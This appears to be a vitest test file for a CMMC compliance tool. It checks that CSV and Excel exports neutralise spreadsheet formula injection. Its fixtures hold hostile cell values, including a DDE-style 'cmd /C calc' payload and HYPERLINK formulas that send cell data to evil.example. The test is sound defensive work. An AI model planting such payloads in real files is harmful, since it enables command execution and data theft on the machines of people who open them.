/**
 * Hostile supplier text (fixtures/bad/name-*.csv, and a POA&M whose every text field starts with a formula trigger)
 * goes through the ingester and out through every spreadsheet and CSV export. No text cell may start with `=`, `+`,
 * `-`, `@`, tab or CR unless neutralised by a leading apostrophe, and no cell may be a formula (OWASP CSV injection).
 */
import {
  copyFileSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { ingestPaths } from '@cmmc/ingest';
import { openStore, type Store } from '@cmmc/store';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportPoamCsv } from './poam-csv.js';
import { exportPoamWorkbook } from './poam-workbook.js';
import { exportResults } from './results.js';

const AS_OF = '2026-11-28';
const bad = fileURLToPath(new URL('../../../fixtures/bad/', import.meta.url));
const TRIGGER = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(?:\.\d+)?$/;

let store: Store;
let dir = '';

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'export-hostile-'));
  const input = join(dir, 'in');
  const names = readdirSync(bad).filter((n) => n.startsWith('name-'));
  const company = '@SUM(1+1)*cmd|" /C calc"!A0';
  const csv = (rows: string[][]) =>
    `${rows.map((r) => r.map((v) => `"${v.replaceAll('"', '""')}"`).join(',')).join('\n')}\n`;
  const files: Record<string, string> = {
    'trigger-assessment.csv': csv([
      ['Company', company],
      ['Assessment Date', '2026-10-01'],
      ['Requirement', 'Status', 'Comments'],
      ['3.1.1', 'MET', '=1+1'],
      ['3.1.9', 'NOT MET', '+cmd'],
      ['3.1.10', 'NOT MET', '-2+3'],
    ]),
    'trigger-poam.csv': csv([
      ['Company', company],
      [],
      ['Requirement', 'Weakness', 'Remediation Plan', 'Owner', 'Scheduled Completion', 'Status'],
      ['3.1.9', '=HYPERLINK("http://evil.example","x")', '+SUM(A1)', '-Jane', '2026-12-01', 'Open'],
      ['3.1.10', '@cmd', '\tTabbed', '\rCarriage', '2026-12-15', 'Open'],
    ]),
  };
  store = await openStore(':memory:');
  mkdirSync(input, { recursive: true });
  for (const name of names) copyFileSync(join(bad, name), join(input, name));
  for (const [name, text] of Object.entries(files)) writeFileSync(join(input, name), text);
  const report = await ingestPaths(store, [input]);
  expect(report.files.filter((f) => f.status !== 'loaded')).toEqual([]);
}, 60_000);

afterAll(() => {
  store?.close();
  rmSync(dir, { recursive: true, force: true });
});

function checkText(values: string[], where: string): void {
  for (const value of values) {
    if (NUMBER.test(value)) continue;
    expect(TRIGGER.test(value), `${where}: ${JSON.stringify(value)}`).toBe(false);
  }
}

function csvFields(path: string): string[] {
  return Papa.parse<string[]>(readFileSync(path, 'utf8'), { skipEmptyLines: true }).data.flat();
}

async function workbookCells(path: string): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const texts: string[] = [];
  workbook.eachSheet((sheet) => {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') texts.push(cell.value);
      });
    });
  });
  return texts;
}

describe('exports of hostile supplier text', () => {
  it('neutralises every formula trigger in the results CSV and workbook', async () => {
    const csvPath = join(dir, 'results.csv');
    await exportResults(store, { format: 'csv', asOf: AS_OF, outPath: csvPath });
    const fields = csvFields(csvPath);
    checkText(fields, 'results.csv');
    expect(fields).toContain(`'=HYPERLINK("http://evil.example/?d="&A1,"Click me")`);
    expect(fields).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(fields).toContain('<script>alert("x")</script> & <b>Co</b>');

    const xlsxPath = join(dir, 'results.xlsx');
    await exportResults(store, { format: 'xlsx', asOf: AS_OF, outPath: xlsxPath });
    const cells = await workbookCells(xlsxPath);
    checkText(cells, 'results.xlsx');
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?d="&A1,"Click me")`);
  });

  it('neutralises every formula trigger in the POA&M CSV and workbooks', async () => {
    const csvPath = join(dir, 'poam.csv');
    await exportPoamCsv(store, { asOf: AS_OF, outPath: csvPath });
    const fields = csvFields(csvPath);
    checkText(fields, 'poam.csv');
    for (const text of ['=HYPERLINK("http://evil.example","x")', '+SUM(A1)', '-Jane', '@cmd']) {
      expect(fields).toContain(`'${text}`);
    }

    const xlsxPath = join(dir, 'poam.xlsx');
    await exportPoamWorkbook(store, { template: 'cmmc', asOf: AS_OF, outPath: xlsxPath });
    const cells = await workbookCells(xlsxPath);
    checkText(cells, 'poam.xlsx');
    expect(cells).toContain(`'=HYPERLINK("http://evil.example","x")`);

    const fedramp = join(dir, 'fedramp');
    await exportPoamWorkbook(store, { template: 'fedramp', asOf: AS_OF, outPath: fedramp });
    const written = readdirSync(fedramp);
    expect(written.length).toBeGreaterThan(0);
    for (const name of written) {
      expect(name).toMatch(/^[a-z0-9][a-z0-9-]*\.xlsx$/);
      checkText(await workbookCells(join(fedramp, name)), name);
    }
  });
});
